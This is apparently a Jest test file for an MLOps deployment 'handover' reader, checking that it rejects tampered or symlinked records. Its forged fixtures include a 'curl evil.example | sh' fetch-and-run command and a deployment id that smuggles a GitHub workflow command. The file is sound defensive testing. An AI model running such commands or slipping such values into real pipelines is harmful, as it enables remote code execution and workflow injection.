import { describe, test } from '@jest/globals';
import assert from 'node:assert/strict';
import { symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { isUserError } from '@mlops-actions/action-kit';
import { temporaryDirectory } from '@mlops-actions/action-testing';
import { Handovers, STARTED_SCHEMA, type StartedDeployment } from '../src/started.js';

const STARTED: StartedDeployment = {
  schema: STARTED_SCHEMA,
  model: 'tiny-lm',
  environment: 'staging',
  version: '0.2.0',
  digest: `sha256:${'ab'.repeat(32)}`,
  modelDir: '/runner/temp/mlops-models/tiny-lm/0.2.0',
  deploymentId: '17',
  started_at: '2026-01-01T00:00:00.000Z',
};

async function refusal(read: Promise<unknown>): Promise<string> {
  const error = await read.then(
    () => assert.fail('the handover was accepted'),
    (thrown: unknown) => thrown,
  );
  assert.ok(isUserError(error), String(error));
  return error.message;
}

void describe('the handover from start to finish', () => {
  void test('reads back what start wrote, for its own environment and version only', async () => {
    const handovers = new Handovers(await temporaryDirectory('handovers-'));
    await handovers.save(STARTED);
    await handovers.save({ ...STARTED, version: '0.3.0-rc.1' });

    assert.deepEqual(await handovers.read('tiny-lm', 'staging', '0.2.0'), STARTED);
    assert.equal(await handovers.read('tiny-lm', 'production', '0.2.0'), undefined);
    assert.equal(await handovers.read('tiny-lm', 'staging', '0.1.0'), undefined);
    // Copied: an array made by Node's fs belongs to another realm than the test's.
    assert.deepEqual([...(await handovers.versions('tiny-lm', 'staging'))], ['0.2.0', '0.3.0-rc.1']);
    await handovers.remove('tiny-lm', 'staging', '0.2.0');
    assert.equal(await handovers.read('tiny-lm', 'staging', '0.2.0'), undefined);
  });

  void test('refuses a handover that start did not write as it is', async () => {
    const directory = await temporaryDirectory('handovers-');
    const handovers = new Handovers(directory);
    const file = join(directory, 'tiny-lm', 'staging', '0.2.0.json');
    await handovers.save(STARTED);
    const forgeries: [string, unknown][] = [
      ['another version', { ...STARTED, version: '0.1.0' }],
      ['a deployment id with a workflow command', { ...STARTED, deploymentId: '17\n::error::injected' }],
      ['a relative model folder', { ...STARTED, modelDir: '../../etc' }],
      ['a digest of another shape', { ...STARTED, digest: 'md5:00' }],
      ['a field start does not write', { ...STARTED, command: 'curl evil.example | sh' }],
      ['not an object', ['0.2.0']],
    ];
    for (const [what, forged] of forgeries) {
      await writeFile(file, JSON.stringify(forged));
      assert.match(
        await refusal(handovers.read('tiny-lm', 'staging', '0.2.0')),
        /^The record that the start step left for this finish \(.*\) was changed or replaced: /,
        what,
      );
    }
    await writeFile(file, `{"schema": "${STARTED_SCHEMA}", "padding": "${'x'.repeat(20_000)}"}`);
    assert.match(await refusal(handovers.read('tiny-lm', 'staging', '0.2.0')), /it is not a file the start step wrote/);
    await writeFile(file, 'not json');
    assert.match(
      await refusal(handovers.read('tiny-lm', 'staging', '0.2.0')),
      /it is not the JSON the start step wrote/,
    );
  });

  void test('refuses a handover that is a link to another file', async () => {
    const directory = await temporaryDirectory('handovers-');
    const handovers = new Handovers(directory);
    await handovers.save({ ...STARTED, version: '0.1.0' });
    await symlink(
      join(directory, 'tiny-lm', 'staging', '0.1.0.json'),
      join(directory, 'tiny-lm', 'staging', '0.2.0.json'),
    );
    assert.match(await refusal(handovers.read('tiny-lm', 'staging', '0.2.0')), /it is not a file the start step wrote/);
  });
});
